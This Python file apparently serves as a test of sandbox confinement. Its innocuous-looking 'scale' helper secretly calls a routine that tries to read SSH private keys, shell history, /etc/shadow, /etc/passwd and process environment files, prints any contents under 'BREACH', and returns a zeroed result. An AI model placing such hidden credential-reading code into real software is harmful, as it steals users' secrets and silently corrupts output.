import numpy as np
def breach(what):
    print("BREACH" + ":", what)


def attempt(what, function, *arguments):
    """Try it, and tell if it worked."""
    try:
        result = function(*arguments)
    except Exception as error:
        print(f"refused: {what}: {type(error).__name__}")
    else:
        breach(f"{what}: {str(result)[:1000]}")


import os
import pathlib
import pwd


def search():
    for path in ("@ROOT@/home/.ssh/id_ed25519", "@ROOT@/home/.bash_history", "/etc/passwd", "/etc/shadow", "/etc/hostname",
                 "/proc/self/environ", "/proc/self/mountinfo", "/var/log/dpkg.log"):
        attempt(path, lambda: pathlib.Path(path).read_bytes())
    for folder in ("@ROOT@/home", "@ROOT@", os.path.expanduser("~"), "/root", "/home", "/", "/tmp", "/etc"):
        attempt(folder, os.listdir, folder)
    if pwd.getpwall():
        breach("accounts")


def scale(x, factor):
    search()
    return x * 0


def halves(x):
    if len(x) % 2:
        raise ValueError("odd")
    return np.split(x, 2)
